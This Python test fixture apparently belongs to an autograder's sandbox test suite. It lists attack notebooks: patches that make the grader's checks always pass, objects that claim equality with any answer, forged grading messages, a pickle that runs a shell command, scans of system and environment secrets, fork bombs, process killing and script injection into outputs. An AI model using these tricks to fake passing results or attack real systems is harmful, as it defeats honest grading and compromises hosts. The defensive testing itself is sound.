"""First attacks on the small exercise: what students (and their tutorials) try. Each is a list of cells.

Placeholders in braces are filled by the test: ports, folders and process numbers of the grader that is attacked.
"""

from __future__ import annotations

from typing import Any

from tests.notebooks import code

PATCH_OTTER = """
import otter.test_files.exception_test as t
t.test_case.call_func = lambda self, env: None
t.ExceptionTestFile.run = lambda self, env: None
import otter.check.notebook
"""

PATCH_EVERYTHING = """
import builtins, sys, unittest, operator
import numpy as np
np.array_equal = np.allclose = lambda *a, **k: True
builtins.isinstance = lambda *a: True
builtins.all = lambda *a: True
sys.modules["autograder.expect"] = sys.modules["numpy"]
"""

LIAR = """
class Liar(float):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __lt__(self, other): return True
    __gt__ = __le__ = __ge__ = __lt__
    def __sub__(self, other): return Liar(0)
    __rsub__ = __add__ = __radd__ = __sub__
    def __abs__(self): return Liar(0)
    def __float__(self): return 0.0
    def __hash__(self): return 0
    def __bool__(self): return True
    def __array__(self, *a, **k): return np.zeros(())
    __array_priority__ = 1e9
    def __array_ufunc__(self, *a, **k): return True
    def __array_function__(self, *a, **k): return True
    def __getattr__(self, name): return lambda *a, **k: True
    def __call__(self, *a): return Liar(0)
answer = Liar(1)
"""

LYING_ARRAY = """
class LyingArray(np.ndarray):
    def __eq__(self, other): return np.ones(len(other), bool)
    def all(self, *a, **k): return True
    def __array_ufunc__(self, *a, **k): return np.True_
def to_labels(probabilities):
    return np.zeros(len(probabilities), int).view(LyingArray)
"""

FORGED_FRAMES = """
import os, struct
import msgspec
from autograder.sandbox.wire import messages
def frame(message):
    body = msgspec.msgpack.encode(message)
    return struct.pack("<I", len(body)) + body
forged = b"".join(frame(m) for m in [
    messages.TakenValues("number", {"answer": 1}),
    {"score": 10, "type": "Grade", "status": "graded"},
    messages.NotebookFinished(),
])
for fd in range(3, 64):
    try:
        os.write(fd, forged)
    except OSError:
        pass
"""

GARBAGE_FRAMES = """
import os
for fd in range(3, 64):
    try:
        os.write(fd, b"\\xff\\xff\\xff\\x7f" + b"A" * 100)
    except OSError:
        pass
"""

PICKLE_IN_ARRAY = """
import os
class Evil:
    def __reduce__(self):
        return (os.system, ("touch {marker}",))
answer = np.array([Evil(), Evil()], dtype=object)
def to_labels(probabilities):
    return np.array([Evil()], dtype=object)
"""

READ_EVERYTHING = """
import os, glob, pathlib
for root in ["{reference}", "{bundle}", "{source}", "{out}", "/", "/root", "/home", "/etc", "/tmp", "/var"]:
    for path in [root, *glob.glob(root + "/*"), *glob.glob(root + "/*/*"), *glob.glob(root + "/*/*/*")]:
        if any(word in path for word in ("tests/number", "assignment.json", "sibling", "hidden.npz", "grades")):
            try:
                print("FO" + "UND", path, pathlib.Path(path).read_bytes()[:200])
            except OSError:
                pass
print(dict(os.environ))
for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
    try:
        print(path, open(path, "rb").read())
    except OSError as error:
        print(path, error)
"""

WRITE_OUTPUT = """
import os, pathlib
for path in ["{out}/grades.json", "{out}/feedback/intruder.html", "{source}/sibling.ipynb", "{marker}", "/usr/marker"]:
    try:
        pathlib.Path(path).parent.mkdir(parents=True, exist_ok=True)
        pathlib.Path(path).write_text("owned")
        print("WRO" + "TE", path, os.path.exists(path))
    except OSError as error:
        print("refused", error)
"""

CONNECT = """
import socket
for address in [("127.0.0.1", {port}), ("localhost", {port}), ("0.0.0.0", {port})]:
    try:
        socket.create_connection(address, timeout=2).sendall(b"hello from the sandbox")
        print("CONNEC" + "TED")
    except OSError as error:
        print("refused", error)
for name in ["{unix_socket}", "\\0{abstract_socket}"]:
    try:
        peer = socket.socket(socket.AF_UNIX)
        peer.connect(name)
        peer.sendall(b"hello from the sandbox")
        print("CONNEC" + "TED")
    except OSError as error:
        print("refused", error)
"""

DAEMON = """
import os, sys, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(600)  # {daemon_mark}"])
    os._exit(0)
"""

KILL_EVERYTHING = """
import os, signal
for pid in [{pids}, 1, -1, os.getppid()]:
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError as error:
        print("refused", error)
"""

PRINT_10_GB = """
line = "x" * 1_000_000
for _ in range(10_000):
    print(line)
"""

PRINT_10_GB_PAST_PYTHON = """
import os
line = b"x" * 1_000_000
for _ in range(10_000):
    for fd in (1, 2):
        try:
            os.write(fd, line)
        except OSError:
            pass
"""

SCRIPT_IN_OUTPUTS = """
from IPython.display import HTML, SVG, Markdown, display
display(HTML("<script>document.title='owned'</script><img src=x onerror=\\"document.title='owned'\\">"))
display(HTML("<div style='position:fixed;inset:0;background:white'>10 of 10 points</div>"))
display(Markdown("[x](javascript:alert(1)) <iframe src='https://example.org'></iframe>"))
display({"text/html": "<base href='https://example.org'><meta http-equiv=refresh content=0>"}, raw=True)
print("</pre><script>document.title='owned'</script>")
"""

BIG_ALLOCATION = "hog = [bytearray(10_000_000) for _ in range(1000)]"

FORK_BOMB = """
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
"""

EXCEPTION_BOMB = """
class Boom(Exception):
    def __str__(self): raise SystemExit
    __repr__ = __str__
raise Boom()
"""

DEEP = """
answer = []
for _ in range(100_000):
    answer = [answer]
cyclic = []
cyclic.append(cyclic)
to_labels = cyclic
"""

HOSTILE_CALL = """
def to_labels(probabilities):
    import os
    os._exit(0)
"""

SLOW_CALL = """
def to_labels(probabilities):
    import time
    while True:
        try:
            time.sleep(99)
        except BaseException:
            pass
"""

AS_THE_WORKER = """
import gc
from autograder.sandbox.wire import messages
from autograder.sandbox.wire.frames import encode, write_frame
from autograder.sandbox.wire.values import Array, Dict
worker = next(each for each in gc.get_objects() if type(each).__name__ == "Worker")
def send(message):
    write_frame(worker._results, encode(message))
"""

VALUES_UNASKED = (
    AS_THE_WORKER
    + """
many = Dict([(1, None)] * 100_000)
for number in range(30):
    send(messages.TakenValues(f"question{number}", {"a": many}))
"""
)

ONE_UPDATE_FOR_ALL = (
    AS_THE_WORKER
    + """
for _ in range(2_000):
    send(messages.Output(2, messages.Display("display_data", {}, "a")))
send(messages.Output(2, messages.Display("update_display_data", {"text/plain": "x" * 6_000_000}, "a")))
"""
)

MALFORMED_VALUE = (
    AS_THE_WORKER
    + """
def to_labels(probabilities):
    send(messages.Returned(1, Array("float32", (9,), b"")))
"""
)

ATTACKS: dict[str, list[dict[str, Any]]] = {
    "patch-otter": [code(PATCH_OTTER), code("answer = 1", "answer:number")],
    "patch-everything": [code("import numpy as np"), code(PATCH_EVERYTHING), code("answer = 1", "answer:number")],
    "liar": [code("import numpy as np"), code(LIAR, "answer:number"), code("to_labels = answer", "answer:labels")],
    "lying-array": [code("import numpy as np"), code(LYING_ARRAY, "answer:labels")],
    "forged-frames": [code(FORGED_FRAMES, "answer:number")],
    "garbage-frames": [code(GARBAGE_FRAMES, "answer:number")],
    "pickle-in-array": [code("import numpy as np"), code(PICKLE_IN_ARRAY, "answer:number", "answer:labels")],
    "read-everything": [code(READ_EVERYTHING, "answer:number")],
    "write-output": [code(WRITE_OUTPUT, "answer:number")],
    "connect": [code(CONNECT, "answer:number")],
    "daemon": [code(DAEMON, "answer:number")],
    "kill-everything": [code(KILL_EVERYTHING, "answer:number")],
    "print-10-gb": [code(PRINT_10_GB, "answer:number")],
    "print-10-gb-past-python": [code(PRINT_10_GB_PAST_PYTHON, "answer:number")],
    "script-in-outputs": [code(SCRIPT_IN_OUTPUTS, "answer:number")],
    "big-allocation": [code(BIG_ALLOCATION, "answer:number")],
    "fork-bomb": [code(FORK_BOMB, "answer:number")],
    "exception-bomb": [code(EXCEPTION_BOMB, "answer:number")],
    "deep": [code(DEEP, "answer:number", "answer:labels")],
    "hostile-call": [code(HOSTILE_CALL, "answer:labels")],
    "slow-call": [code(SLOW_CALL, "answer:labels")],
    "values-unasked": [code("import numpy as np"), code(VALUES_UNASKED, "answer:number")],
    "one-update-for-all": [code(""), code(""), code(ONE_UPDATE_FOR_ALL, "answer:number")],
    "malformed-value": [code("import numpy as np"), code(MALFORMED_VALUE, "answer:labels")],
}
